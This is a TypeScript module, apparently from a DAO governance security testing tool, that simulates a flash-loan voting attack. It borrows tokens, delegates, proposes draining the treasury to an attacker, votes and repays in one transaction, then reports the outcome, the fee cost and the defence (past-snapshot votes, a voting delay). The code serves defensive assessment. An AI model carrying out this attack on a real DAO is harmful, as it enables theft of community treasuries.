import { FlashLender, FlashVoter } from '../../../../../contracts/bindings/index.js';
import { encodeCall } from '../../../../chain/index.js';
import { parseTokens } from '../../../../scenario/index.js';
import type { AttackStage, Standing } from '../../stage/attack-stage.js';
import type { DaoAttackScript, TryOutcome } from '../dao-attack-script.js';
import { HostileProposal, protocolIn } from '../hostile-proposal.js';
import { gatherTokens } from '../market/gather-tokens.js';
import { type AssaultEnd, WHY_IT_ENDED } from '../open-assault.js';
import type { Siege } from '../siege.js';
import { amountOf, inDollars } from '../words.js';
import { ambushTokens } from './low-turnout-ambush.js';

const BPS_PER_PERCENT = 100;

/** Borrows tokens for one transaction, and votes in it. */
export const flashLoanedVotes: DaoAttackScript = {
  title: 'Flash-loaned votes',
  defence: 'Votes from a snapshot in the past, and a voting delay of at least a block.',
  play,
};

async function play(siege: Siege, stage: AttackStage): Promise<TryOutcome> {
  const { loaded, token, unit, defenders } = siege;
  const { lendableTokens, flashFeePercent, priceUsd } = loaded.dao.market;
  const lendable = parseTokens(lendableTokens) / (10n ** 18n / unit);
  const needed = ambushTokens(siege) ?? siege.quorum;
  const feeBps = BigInt(Math.ceil(flashFeePercent * BPS_PER_PERCENT));
  const lender = await stage.deploy(FlashLender, [feeBps]);
  const amount = await gatherTokens(siege, stage, lendable > 0n ? lendable : needed, lender.address);
  const voter = await stage.deploy(FlashVoter, [lender.address, token.address]);
  const fee = await stage.read(lender, 'flashFee', [token.address, amount]);
  await gatherTokens(siege, stage, fee, voter.address);
  const { end, weight } = await borrowAndVote(siege, stage, voter, amount);
  const usd = (Number(fee) / Number(unit)) * priceUsd;
  const none = lendable === 0n ? ' (Nobody lends this token, says the market: it was lent for the try.)' : '';
  return {
    sentence: `Borrow ${amountOf(siege, amount)} for one transaction, delegate, and propose or vote in it, against ${defenders.length} usual voters.`,
    outcome: end !== 'executed' ? 'fails' : lendable > 0n ? 'succeeds' : 'impossible',
    evidence: 'chain',
    cost: [{ what: `Fee of the loan, ${flashFeePercent} %`, usd }],
    votesNeeded: needed,
    why:
      (end === 'executed'
        ? `Borrowed votes counted, for a fee of ${inDollars(usd)}.`
        : weight === 0n && end === 'defeated'
          ? 'The borrowed tokens weighed nothing: the governor counts what was held at a snapshot in the past.'
          : WHY_IT_ENDED[end]) + none,
  };
}

async function borrowAndVote(
  siege: Siege,
  stage: AttackStage,
  voter: Standing<typeof FlashVoter>,
  amount: bigint,
): Promise<{ readonly end: AssaultEnd; readonly weight: bigint }> {
  const { loaded, attacker, defenders, drain } = siege;
  const proposing = protocolIn(loaded).propose(drain, 'taken with borrowed votes');
  const what = `borrows ${amountOf(siege, amount)} and tries to propose in the same transaction`;
  await stage.attempt('attacker', what, attacker, voter, 'raid', [amount, loaded.governor, proposing]);
  const proposal = await HostileProposal.make({
    loaded,
    stage,
    calls: drain,
    description: 'send the whole treasury to the attacker',
    author: null,
    who: 'attacker',
  });
  if (proposal === null) return { end: 'notProposed', weight: 0n };
  await loaded.chain.admit([attacker]);
  const data = encodeCall(FlashVoter, 'raid', [amount, loaded.governor, proposal.voteData('for')]);
  const weight = await proposal.send(
    'attacker',
    `borrows ${amountOf(siege, amount)}, delegates, votes and repays in one transaction`,
    proposal.firstMoment,
    [{ from: attacker, to: voter.address, data }],
  );
  stage.tell('governor', `counts ${amountOf(siege, weight)} for it`);
  const against = defenders.map(({ address }) => address);
  await proposal.vote('usual voters', `${against.length} vote Against`, against, 'against');
  if (!(await proposal.close())) return { end: 'defeated', weight };
  return { end: (await proposal.carryOut('attacker', true)) ? 'executed' : 'stopped', weight };
}
